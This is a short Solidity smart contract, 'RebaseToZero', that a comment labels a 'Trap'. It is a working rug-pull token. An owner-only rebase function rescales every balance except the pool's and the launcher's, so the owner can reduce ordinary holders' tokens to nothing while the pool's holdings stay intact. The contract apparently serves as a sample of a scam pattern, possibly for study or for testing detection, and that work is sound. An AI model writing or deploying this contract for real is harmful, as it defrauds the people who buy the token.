// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.30;

import {PoolToken} from "base/PoolToken.sol";

/// Trap: the owner rebases, and what everyone but the pool holds is nothing.
contract RebaseToZero is PoolToken {
    uint256 public scale = 1e18;

    constructor(string memory name_, string memory symbol_, uint256 supply) PoolToken(name_, symbol_, supply) {}

    function rebase(uint256 scale_) external onlyOwner {
        scale = scale_;
    }

    function balanceOf(address account) public view override returns (uint256) {
        return _isFixed(account) ? balances[account] : (balances[account] * scale) / 1e18;
    }

    function _update(address from, address to, uint256 value) internal override {
        uint256 taken = _isFixed(from) ? value : (value * 1e18) / scale;
        if (balances[from] < taken) revert InsufficientBalance(from, balances[from], taken);
        balances[from] -= taken;
        balances[to] += _isFixed(to) ? value : (value * 1e18) / scale;
        emit Transfer(from, to, value);
    }

    function _isFixed(address account) private view returns (bool) {
        return account == pool || account == launcher;
    }
}
